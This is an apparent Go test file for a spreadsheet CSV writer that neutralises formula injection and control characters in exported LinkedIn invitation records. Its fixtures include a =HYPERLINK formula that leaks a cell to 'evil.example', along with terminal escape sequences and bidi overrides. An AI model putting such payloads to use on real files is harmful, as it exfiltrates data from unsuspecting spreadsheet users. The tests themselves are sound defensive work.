package spreadsheet_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/unvite/unvite"
	"github.com/unvite/unvite/printable"
	"github.com/unvite/unvite/spreadsheet"
)

var asOf = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

func invitations() []*unvite.Invitation {
	oslo, _ := time.LoadLocation("Europe/Oslo")
	return []*unvite.Invitation{
		{
			ID:        1,
			Direction: unvite.Sent,
			Invitee: unvite.Person{
				Name: "Jörg Ström", Headline: "Head of \"Growth\", Nordics", Company: "=Acme, Inc.", Slug: "jörg-ström",
			},
			LinkedInID:    "7203310099887766554",
			SentAt:        time.Date(2026, 8, 1, 9, 15, 0, 0, oslo),
			Note:          `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
			HadNote:       true,
			Status:        unvite.StatusWithdrawn,
			StatusSince:   time.Date(2026, 11, 1, 10, 0, 0, 0, time.UTC),
			ReinviteAfter: time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC),
			Source:        unvite.SourceSync,
			Tags:          []string{"vip", "+conference", "two words"},
			Protected:     true,
			FollowUpOn:    time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC),
			Comment:       "=call back, met at Slush",
		},
		{
			ID:           2,
			Direction:    unvite.Sent,
			Invitee:      unvite.Person{Name: "@handle", Headline: "-10% churn", Company: "\tTabbed"},
			SentAt:       time.Date(2026, 11, 6, 0, 0, 0, 0, time.UTC),
			SentAtApprox: true,
			Note:         "Hi Ann,\nmet you at the meetup.\r\nShall we connect?",
			HadNote:      true,
			Status:       unvite.StatusPending,
			Source:       unvite.SourceExport,
		},
		{
			ID:      3,
			Invitee: unvite.Person{Name: "No Note"},
			SentAt:  time.Date(2025, 1, 2, 3, 4, 5, 0, time.UTC),
			Status:  unvite.StatusAccepted,
			Source:  unvite.SourceSheet,
			Note:    "\rcarriage first",
		},
	}
}

func write(t *testing.T, w *spreadsheet.Writer, invs []*unvite.Invitation) {
	t.Helper()
	for _, inv := range invs {
		require.NoError(t, w.Write(inv))
	}
	require.NoError(t, w.Flush())
}

func TestCells(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := spreadsheet.NewWriter(&b)
	w.AsOf = asOf
	write(t, w, invitations())

	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4)
	require.Equal(t, spreadsheet.Header, rows[0])
	require.Equal(t, []string{
		"1", "withdrawn", "Jörg Ström", `Head of "Growth", Nordics`, "'=Acme, Inc.",
		"https://www.linkedin.com/in/j%C3%B6rg-str%C3%B6m",
		"2026-08-01T07:15:00Z", "false", "111", "true",
		`'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`,
		"2026-11-01T10:00:00Z", "2026-11-22T10:00:00Z", "sync", "vip;+conference;two words", "true",
		"7203310099887766554", "2026-12-01", "'=call back, met at Slush",
	}, rows[1])
	require.Equal(t, []string{
		"2", "pending", "'@handle", "'-10% churn", "'\tTabbed", "",
		"2026-11-06T00:00:00Z", "true", "14", "true",
		"Hi Ann,\nmet you at the meetup.\nShall we connect?", // encoding/csv reads \r\n inside quotes as \n
		"", "", "export", "", "false", "", "", "",
	}, rows[2])
	require.Equal(t, "␍carriage first", rows[3][10], "a lone CR is shown, not kept")
	require.Equal(t, "", rows[3][11], "no status_since")
}

// TestRoundTrip reads the file back, undoes the escaping, and finds every
// field of every invitation.
func TestRoundTrip(t *testing.T) {
	t.Parallel()
	invs := invitations()
	invs[1].Note = "Hi Ann,\nmet you at the meetup.\nShall we connect?" // CSV readers fold \r\n
	invs[2].Note = "plain"
	var b bytes.Buffer
	w := spreadsheet.NewWriter(&b)
	w.AsOf = asOf
	write(t, w, invs)

	r := csv.NewReader(&b)
	head, err := r.Read()
	require.NoError(t, err)
	col := map[string]int{}
	for i, h := range head {
		col[h] = i
	}
	for _, want := range invs {
		row, err := r.Read()
		require.NoError(t, err)
		cell := func(name string) string {
			return strings.TrimPrefix(row[col[name]], "'")
		}
		when := func(name string) time.Time {
			if cell(name) == "" {
				return time.Time{}
			}
			tm, err := time.Parse(time.RFC3339, cell(name))
			require.NoError(t, err)
			return tm
		}
		id, err := strconv.ParseInt(cell("id"), 10, 64)
		require.NoError(t, err)
		require.Equal(t, want.ID, id)
		require.Equal(t, string(want.Status), cell("status"))
		require.Equal(t, want.Invitee.Name, cell("name"))
		require.Equal(t, want.Invitee.Headline, cell("headline"))
		require.Equal(t, want.Invitee.Company, cell("company"))
		require.Equal(t, want.Invitee.Slug, unvite.SlugFromURL(cell("profile_url")))
		require.True(t, want.SentAt.Equal(when("sent_at")))
		require.Equal(t, strconv.FormatBool(want.SentAtApprox), cell("sent_at_approx"))
		require.Equal(t, strconv.Itoa(want.AgeDays(asOf)), cell("age_days"))
		require.Equal(t, strconv.FormatBool(want.HadNote), cell("had_note"))
		require.Equal(t, want.Note, cell("note"))
		require.True(t, want.StatusSince.Equal(when("status_since")))
		require.True(t, want.ReinviteAfter.Equal(when("reinvite_after")))
		require.Equal(t, string(want.Source), cell("source"))
		var tags []string
		if cell("tags") != "" {
			tags = strings.Split(cell("tags"), ";")
		}
		require.Equal(t, want.Tags, tags)
		require.Equal(t, strconv.FormatBool(want.Protected), cell("protected"))
		require.Equal(t, want.LinkedInID, cell("linkedin_id"))
		require.Equal(t, want.Comment, cell("comment"))
		if want.FollowUpOn.IsZero() {
			require.Empty(t, cell("follow_up_on"))
		} else {
			require.Equal(t, want.FollowUpOn.Format("2006-01-02"), cell("follow_up_on"))
		}
	}
}

// A crafted export cannot put terminal escapes, other control characters
// or bidi overrides into a CSV file; the rest of the text stays.
func TestNoControlCharacters(t *testing.T) {
	t.Parallel()
	inv := &unvite.Invitation{
		ID: 9, Direction: unvite.Sent, Status: unvite.StatusPending, Source: unvite.SourceExport,
		Invitee: unvite.Person{Name: "Bad\x1b]0;pwned\x07Name", Company: "\u202eevil\u202c Corp", Headline: "C1 \u009b31m"},
		Note:    "line one\nline two\x1b[2J\x00", Comment: "\u2066isolated\u2069 Zoë 山田 👍🏽",
	}
	var b bytes.Buffer
	write(t, spreadsheet.NewWriter(&b), []*unvite.Invitation{inv})
	for _, r := range b.String() {
		require.False(t, r != '\n' && printable.Unsafe(r), "raw %U in %q", r, b.String())
	}
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	cell := func(name string) string { return rows[1][slices.Index(spreadsheet.Header, name)] }
	require.Equal(t, "Bad␛]0;pwned␇Name", cell("name"))
	require.Equal(t, "�evil� Corp", cell("company"))
	require.Equal(t, "C1 �31m", cell("headline"))
	require.Equal(t, "line one\nline two␛[2J␀", cell("note"))
	require.Equal(t, "�isolated� Zoë 山田 👍🏽", cell("comment"))
}

func TestEscape(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"":                "",
		"=1+1":            "'=1+1",
		"+33 6 12":        "'+33 6 12",
		"-2":              "'-2",
		"@SUM(A1)":        "'@SUM(A1)",
		"\tx":             "'\tx",
		"\rx":             "␍x",
		"\x1b[2J":         "␛[2J",
		"Ann":             "Ann",
		"a=b":             "a=b",
		" =not a formula": " =not a formula",
		"'quoted":         "'quoted",
	} {
		require.Equal(t, want, spreadsheet.Escape(in), "%q", in)
	}
}

func TestHeaderOnlyAndOptions(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	require.NoError(t, spreadsheet.NewWriter(&b).Flush())
	require.Equal(t, strings.Join(spreadsheet.Header, ",")+"\n", b.String())

	b.Reset()
	w := spreadsheet.NewWriter(&b)
	w.BOM = true
	write(t, w, invitations()[2:])
	require.True(t, strings.HasPrefix(b.String(), "\ufeffid,status,"))
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, "", rows[1][8], "no clock, no age")
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteError(t *testing.T) {
	t.Parallel()
	w := spreadsheet.NewWriter(failing{})
	require.NoError(t, w.Write(invitations()[0])) // buffered
	require.ErrorContains(t, w.Flush(), "disk full")

	w = spreadsheet.NewWriter(failing{})
	w.BOM = true
	require.ErrorContains(t, w.Write(invitations()[0]), "disk full")
}
